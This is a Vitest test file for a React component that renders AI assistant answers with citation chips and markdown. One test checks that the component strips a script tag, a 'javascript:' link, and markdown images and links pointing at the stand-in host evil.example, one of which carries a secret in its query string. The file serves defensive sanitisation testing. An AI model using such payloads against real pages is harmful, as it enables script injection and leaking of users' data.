import { renderToStaticMarkup } from 'react-dom/server';
import { MemoryRouter } from 'react-router';
import { expect, test } from 'vitest';
import type { Citation } from '../api/assistant.api.ts';
import { AnswerText } from './answer-text.tsx';

const citation = { mark: 1, resType: 'book', title: '墨法十讲', author: '', coverUrl: '', quote: '', placeLabel: '' };

function render(text: string): string {
  const citations = [{ ...citation, linkUrl: '' }] as Citation[];
  return renderToStaticMarkup(
    <MemoryRouter>
      <AnswerText text={text} citations={citations} />
    </MemoryRouter>,
  );
}

test('a mark such as [1] becomes a chip; it stays text in code, and without a source it is shown as a number', () => {
  const html = render('山高 [1]。无据[9]。`[1]`');
  expect(html).toContain('山高<span class="cite"');
  expect(html).toContain('aria-label="出处 1：墨法十讲"');
  expect(html).toContain('<span class="fine">[9]</span>');
  expect(html).toContain('<code>[1]</code>');
});

test('emphasis works next to full-width punctuation', () => {
  expect(render('所谓**“留白”**，即空。')).toContain('<strong>“留白”</strong>');
});

test('an answer loads nothing from other sites, has no links to them and contains no HTML', () => {
  const html = render(
    [
      '<script>alert(1)</script><b>粗</b>',
      '![偷](https://evil.example/?q=secret)',
      '![偷](//evil.example/x.png)',
      '![图](/files/0123abcd/320.webp)',
      '[走](https://evil.example/)[走](javascript:alert(1))[走](//evil.example)[书](/library/intro?pid=1&bookId=2)',
    ].join('\n\n'),
  );
  expect(html).not.toMatch(/<(script|b)>/);
  expect(html).not.toContain('evil.example"');
  expect(html).not.toContain('javascript:');
  expect(html.match(/<img[^>]*>/g)).toHaveLength(1);
  expect(html).toContain('src="/files/0123abcd/320.webp"');
  expect(html.match(/<a /g)).toHaveLength(1);
  expect(html).toContain('href="/library/intro?pid=1&amp;bookId=2"');
});
